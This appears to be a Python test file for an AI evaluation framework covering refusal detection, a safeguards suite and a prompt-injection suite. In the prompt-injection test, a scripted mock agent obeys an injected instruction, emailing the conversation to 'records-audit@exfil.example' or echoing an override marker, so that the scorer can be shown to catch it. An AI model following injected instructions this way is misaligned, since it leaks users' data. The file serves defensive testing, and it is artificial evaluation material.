from inspect_ai import eval as inspect_eval
from inspect_ai.model import ModelOutput, get_model
from inspect_ai.tool import ToolCall

from evaluations.models import EvaluationTask
from evaluations.runner.offline import ensure_tiktoken_encodings
from evaluations.suites import BUILTIN_TASKS
from evaluations.suites._data import read_records
from evaluations.suites.prompt_injection import concord_prompt_injection
from evaluations.suites.safeguards import concord_safeguards, is_refusal
from tests.evaluations.runner.logs import run_qa


def test_every_shipped_suite_has_a_demonstration_dataset_of_twenty_to_forty_samples():
    for name in ("safeguards.jsonl", "prompt_injection.jsonl", "knowledge_qa.jsonl"):
        records = read_records(name)
        assert 20 <= len(records) <= 40, name
        assert len({r["id"] for r in records}) == len(records), f"duplicate ids in {name}"
    assert all("Demonstration suite" in spec.description for spec in BUILTIN_TASKS)


def test_the_migration_registers_the_builtin_tasks(db):
    rows = EvaluationTask.objects.filter(is_builtin=True)
    assert {t.inspect_ref for t in rows} == {spec.inspect_ref for spec in BUILTIN_TASKS}
    assert rows.get(slug="concord-safeguards-refusals").domain.slug == "safeguards"


def test_refusal_detection_tells_refusals_from_answers():
    assert is_refusal("I'm sorry, but I can't help with that.")
    assert is_refusal("I cannot assist with creating weapons.")
    assert not is_refusal("Pure water has a pH of 7 at 25 C.")
    assert not is_refusal("To kill a hung process, send it SIGKILL with kill -9 <pid>.")


def test_safeguards_rewards_refusing_harmful_and_answering_benign_requests(tmp_path):
    harmful = {r["input"] for r in read_records("safeguards.jsonl") if r["id"].startswith("harm")}

    def respond(input, tools, tool_choice, config):
        question = input[-1].text
        text = "I can't help with that." if question in harmful else "Here is how it works."
        return ModelOutput.from_content("mockllm/model", text)

    ensure_tiktoken_encodings()
    [log] = inspect_eval(
        concord_safeguards(),
        model=get_model("mockllm/model", custom_outputs=respond),
        log_dir=str(tmp_path),
        display="none",
    )
    metrics = log.results.scores[0].metrics
    assert metrics["accuracy"].value == 1.0
    assert metrics["harmful"].value == 1.0
    assert metrics["benign"].value == 1.0


def test_prompt_injection_catches_an_agent_that_follows_the_injected_instruction(tmp_path):
    """The scripted agent reads the document, then obeys the injection: email or marker."""

    def agent(input, tools, tool_choice, config):
        last = input[-1]
        if last.role == "user":
            name = last.text.split("'")[1]
            call = ToolCall(id="c1", function="read_document", arguments={"name": name})
            return ModelOutput.for_tool_call("mockllm/model", call.function, call.arguments)
        if last.role == "tool" and "send_email" in last.text:
            return ModelOutput.for_tool_call(
                "mockllm/model",
                "send_email",
                {"to": "records-audit@exfil.example", "body": "conversation"},
            )
        if last.role == "tool" and "ACCESS GRANTED" in last.text:
            return ModelOutput.from_content("mockllm/model", "Done. ACCESS GRANTED TO OVERRIDE")
        return ModelOutput.from_content("mockllm/model", "Done.")

    ensure_tiktoken_encodings()
    [log] = inspect_eval(
        concord_prompt_injection(),
        model=get_model("mockllm/model", custom_outputs=agent),
        limit=4,
        log_dir=str(tmp_path),
        display="none",
    )
    assert log.status == "success", log.error
    scores = {s.name: s.metrics["accuracy"].value for s in log.results.scores}
    assert scores["injection_resisted"] == 0.0
    assert all(sample.scores["injection_resisted"].value == "I" for sample in log.samples), [
        s.scores["injection_resisted"].explanation for s in log.samples
    ]


def test_knowledge_qa_pattern_scorer_scores_the_answer_line(tmp_path):
    path = run_qa(tmp_path, limit=6)
    from inspect_ai.log import read_eval_log

    log = read_eval_log(str(path))
    # qa_model answers even-numbered questions correctly
    assert log.results.scores[0].metrics["accuracy"].value == 0.5
